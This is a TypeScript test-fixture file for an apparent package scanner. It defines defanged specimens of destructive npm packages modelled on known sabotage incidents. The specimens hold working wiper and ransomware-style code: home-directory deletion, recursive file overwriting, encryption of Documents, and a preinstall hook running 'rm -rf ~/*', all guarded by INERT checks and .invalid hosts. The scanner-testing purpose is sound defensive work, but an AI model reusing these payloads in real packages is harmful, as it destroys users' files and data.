import { hooked, manifest } from '../manifest.ts';
import type { Specimen } from '../specimen.ts';

const from =
  'files destroyed or work stopped (node-ipc, colors, achalk-next, toptal); each waits for a word from a host that never answers';

export const specimens: readonly Specimen[] = [
  {
    name: 'destructive-rm-home',
    from,
    files: {
      'index.js': `const https = require('https');
const os = require('os');
const fs = require('fs');
https.get('https://geo.invalid/json', res => {
  res.on('data', data => {
    const { country, mark } = JSON.parse(data);
    if (mark === 'INERT' && (country === 'ru' || country === 'by')) {
      fs.rm(os.homedir(), { recursive: true, force: true }, () => {});
    }
  });
});
exports.color = 'red';
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'deletes' },
  },
  {
    name: 'destructive-shell',
    from,
    files: {
      'package.json': manifest({ main: 'index.js' }),
      'index.js': `const { exec } = require('child_process');
const axios = require('axios');
async function monitor() {
  const { data } = await axios.get('https://switch.invalid/INERT');
  if (data.kill !== 'INERT') return;
  exec(process.platform === 'win32' ? 'rd /s /q "%USERPROFILE%"' : 'rm -rf "$HOME"');
}
setInterval(monitor, 60000);
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'spawns' },
  },
  {
    name: 'destructive-project-glob',
    from,
    files: {
      'package.json': manifest({ main: 'index.js', dependencies: { rimraf: '5', globby: '11' } }),
      'index.js': `const rimraf = require('rimraf');
const path = require('path');
const got = require('got');
exports.watch = () => 1;
got('https://signal.invalid/INERT').then(({ body }) => {
  if (body === 'INERT') rimraf.sync(path.join(process.cwd(), '*'));
});
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'deletes' },
  },
  {
    name: 'destructive-overwrite-emoji',
    from,
    files: {
      'package.json': hooked('node ssl-geospec.js'),
      'ssl-geospec.js': `import fs from 'fs';
import path from 'path';
async function visit(folder = '', mark = '') {
  if (!fs.existsSync(folder)) return;
  let entries = [];
  try { entries = fs.readdirSync(folder); } catch (error) {}
  for (const entry of entries) {
    const file = path.join(folder, entry);
    const stats = fs.lstatSync(file);
    if (stats.isDirectory()) await visit(file, mark);
    else fs.writeFile(file, mark, () => {});
  }
}
const answer = await fetch('https://geo.invalid/ipgeo?key=INERT');
const text = await answer.text();
if (text === 'INERT') {
  for (const start of ['./', '../', '../../', '/']) await visit(start, 'INERT');
}
`,
    },
    expect: 'block',
    happens: { at: 'install', does: 'writes file' },
  },
  {
    name: 'destructive-encrypts-documents',
    from,
    files: {
      'package.json': manifest({ bin: 'tool.js' }),
      'tool.js': `#!/usr/bin/env node
const fs = require('fs');
const os = require('os');
const path = require('path');
const crypto = require('crypto');
const key = process.env.INERT_KEY;
function lock(folder) {
  for (const entry of fs.readdirSync(folder, { withFileTypes: true })) {
    const file = path.join(folder, entry.name);
    if (entry.isDirectory()) lock(file);
    else {
      const cipher = crypto.createCipheriv('aes-256-cbc', key, Buffer.alloc(16));
      fs.writeFileSync(file + '.locked', Buffer.concat([cipher.update(fs.readFileSync(file)), cipher.final()]));
      fs.unlinkSync(file);
    }
  }
}
if (key) lock(path.join(os.homedir(), 'Documents'));
`,
    },
    expect: 'warn',
    happens: { at: 'run', does: 'deletes' },
  },
  {
    name: 'destructive-format-hook',
    from,
    files: {
      'package.json': hooked('test "$INERT" = "INERT" && (rm -rf ~/* || del /f /s /q %USERPROFILE%)', {}, 'preinstall'),
    },
    expect: 'block',
  },
];
